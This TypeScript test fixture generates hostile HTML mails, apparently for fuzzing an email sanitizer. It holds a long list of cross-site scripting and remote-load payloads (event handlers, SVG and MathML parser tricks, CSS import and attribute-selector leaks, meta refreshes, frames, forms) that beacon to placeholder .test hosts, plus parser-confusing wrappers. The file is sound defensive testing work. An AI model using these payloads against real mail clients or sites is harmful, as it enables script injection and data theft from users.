import { createDice } from "../../../service/proofs/seeded-random.ts";

/** What a script does when it runs: each of these is seen from outside. */
export function script(id: string): string {
  return (
    `console.log('CANARY ${id}');try{parent.postMessage('CANARY ${id}','*')}catch{};try{new Image().src='https://script-${id}.test/'}catch{};` +
    `try{top.location='https://top-${id}.test/'}catch{}`
  );
}

/** Each tries to run a script, to load something, or to leave the frame. `id` makes every host name unique, so that no cache hides a request. */
const attacks: ((id: string) => string)[] = [
  (id) => `<script>${script(id)}</script>`,
  (id) => `<script src="https://src-${id}.test/x.js"></script>`,
  (id) => `<ScRiPt type=module>${script(id)}</sCrIpT>`,
  (id) => `<img src=x onerror="${script(id)}">`,
  (id) => `<body onload="${script(id)}" onpageshow="${script(id)}">`,
  (id) => `<svg onload="${script(id)}"><script>${script(id)}</script><image href="https://svg-${id}.test/"/></svg>`,
  (id) => `<svg><use href="https://use-${id}.test/#a"/><animate onbegin="${script(id)}" attributeName=x dur=1s></svg>`,
  (id) =>
    `<svg><style>@import url("https://svgcss-${id}.test/");</style><foreignObject><iframe src="https://fo-${id}.test/"></iframe></foreignObject></svg>`,
  (id) =>
    `<math><mtext><table><mglyph><style><img src=x onerror="${script(id)}"></style></mglyph></table></mtext></math>`,
  (id) =>
    `<input autofocus onfocus="${script(id)}"><details open ontoggle="${script(id)}"><summary>x</summary></details>`,
  (id) =>
    `<video autoplay src="https://video-${id}.test/" poster="https://poster-${id}.test/" onerror="${script(id)}"></video>`,
  (id) => `<audio autoplay src="https://audio-${id}.test/"><source src="https://source-${id}.test/"></audio>`,
  (id) =>
    `<img src="https://img-${id}.test/p.gif" srcset="https://set-${id}.test/ 2x"><img src="http://plain-${id}.test/">`,
  (id) => `<picture><source srcset="https://picture-${id}.test/"><img src="//relative-${id}.test/"></picture>`,
  (id) => `<table background="https://bg-${id}.test/"><tr><td background="//td-${id}.test/">x</td></tr></table>`,
  (id) => `<style>@import "https://import-${id}.test/";body{background:url(https://css-${id}.test/)}</style>`,
  (id) =>
    `<style>@font-face{font-family:f;src:url(https://font-${id}.test/)}*{font-family:f;cursor:url(http://cursor-${id}.test/),auto}</style>text`,
  (id) =>
    `<style>p::before{content:url("https://content-${id}.test/")}p{list-style:url(//list-${id}.test/);display:list-item}</style><p>x</p>`,
  (id) => `<input value="abc"><style>input[value^="a"]{background:image-set("https://leak-${id}.test/a" 1x)}</style>`,
  (id) =>
    `<div style="background:u\\72l(https://escaped-${id}.test/);mask:url(https://mask-${id}.test/);filter:url(https://filter-${id}.test/#x)">x</div>`,
  (id) => `<link rel=stylesheet href="https://sheet-${id}.test/"><link rel="icon" href="https://icon-${id}.test/">`,
  (id) => `<link rel=preconnect href="https://preconnect-${id}.test/"><link rel=dns-prefetch href="//dns-${id}.test/">`,
  (id) =>
    `<LINK rel="preconnect" crossorigin href="http://preplain-${id}.test/"><link/rel=preload/as=image/href=https://preload-${id}.test/>`,
  (id) =>
    `<link rel=prefetch href="https://prefetch-${id}.test/"><link rel=prerender href="https://prerender-${id}.test/">`,
  (id) =>
    `<link rel=modulepreload href="https://module-${id}.test/"><link rel=manifest href="https://manifest-${id}.test/">`,
  (id) => `<script type=speculationrules>{"prefetch":[{"urls":["https://speculate-${id}.test/"]}]}</script>`,
  (id) => `<meta http-equiv=refresh content="0;url=https://refresh-${id}.test/">`,
  (id) =>
    `<meta http-equiv=refresh content="0;url=javascript:${script(id)}"><meta http-equiv=refresh content="0;url=data:text/html,<script>${script(id)}</script>">`,
  (id) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><script>${script(id)}</script>`,
  (id) =>
    `<meta http-equiv=x-dns-prefetch-control content=on><meta name=referrer content=unsafe-url><a href="https://anchor-${id}.test/">x</a>`,
  (id) => `<base href="https://base-${id}.test/"><img src="based.gif"><a href="x">x</a>`,
  (id) => `<base target=_top><a href="https://top-${id}.test/">x</a>`,
  (id) => `<iframe src="https://frame-${id}.test/"></iframe><iframe srcdoc="<script>${script(id)}</script>"></iframe>`,
  (id) =>
    `<iframe src="javascript:${script(id)}"></iframe><frameset><frame src="https://frameset-${id}.test/"></frameset>`,
  (id) => `<iframe src="data:text/html,<script>${script(id)}</script>" sandbox="allow-scripts"></iframe>`,
  (id) => `<object data="https://object-${id}.test/" type="text/html"></object><embed src="https://embed-${id}.test/">`,
  (id) =>
    `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${script(id)}</script></svg>"></object>`,
  (id) => `<form action="https://form-${id}.test/" method=post><input name=a><button autofocus>x</button></form>`,
  (id) =>
    `<form id=f action="https://form2-${id}.test/"></form><input form=f type=image src="https://imageinput-${id}.test/">`,
  (id) => `<a href="javascript:${script(id)}">x</a><a href="data:text/html,<script>${script(id)}</script>">y</a>`,
  (id) => `<a href="https://ping-${id}.test/" ping="https://pinged-${id}.test/" target=_self>x</a>`,
  (id) =>
    `<template><img src=x onerror="${script(id)}"></template><div><template shadowrootmode=open><img src="https://shadow-${id}.test/"></template></div>`,
  (id) =>
    `<noscript><img src="https://noscript-${id}.test/"><meta http-equiv=refresh content="0;url=https://nosrefresh-${id}.test/"></noscript>`,
  (id) => `<xml id=x><?xml-stylesheet href="https://xsl-${id}.test/"?></xml><track src="https://track-${id}.test/">`,
  (id) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://insvg-${id}.test/'/><script>${script(id)}</script></svg>">`,
  (id) =>
    `<marquee onstart="${script(id)}">x</marquee><div style="animation:a 1ms" onanimationstart="${script(id)}"></div><style>@keyframes a{to{color:red}}</style>`,
  (id) =>
    `<portal src="https://portal-${id}.test/"></portal><fencedframe src="https://fenced-${id}.test/"></fencedframe><applet code="https://applet-${id}.test/">`,
];

/** What surrounds an attack, to make a filter or a parser lose track. */
const surroundings: ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `<!doctype html><html><head><title>x</title></head><body>${attack}</body></html>`,
  (attack) => `<html><head>${attack}<style>`,
  (attack) => `<!-- an open comment --!>${attack}<!--`,
  (attack) => `<p title="--><`.concat('">', attack, "<div <div <div"),
  (attack) => `</pre></textarea></title></style></script></noscript></template>${attack}`,
  (attack) => `<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-${attack}`,
  (attack) => `<meta http-equiv=content-type content="text/html; charset=utf-16le">${attack}`,
  (attack) => `\uFEFF&#0;\u0001\u000b\u000c${attack}\u00a0\u2028&#xD800;`,
  (attack) => `<table><tr><td><select><option>${attack}</table></select>`,
  (attack) => `${"<div><b><i>".repeat(300)}${attack}`,
  (attack) => `<![CDATA[x]]><?php x ?></br></p>${attack}</html>${attack}`,
  (attack) => attack.replaceAll("<", "\n<").replaceAll("=", " \t= "),
];

const largeBytes = 1024 * 1024;

/** Each mail has one attack that the number chooses and three random ones. Every 25th has 1 MB. */
export function hostileMails(count: number, seed: number): string[] {
  const dice = createDice(seed);
  const pick = <Item>(items: Item[]): Item => items[dice.roll(items.length)] as Item;
  return Array.from({ length: count }, (_, number) => {
    const chosen = [
      attacks[number % attacks.length] as (id: string) => string,
      pick(attacks),
      pick(attacks),
      pick(attacks),
    ];
    const body = chosen.map((attack, index) => pick(surroundings)(attack(`${number}-${index}`))).join("\n");
    return number % 25 === 24 ? `<p>${"x ".repeat(largeBytes / 2)}</p>${body}` : body;
  });
}
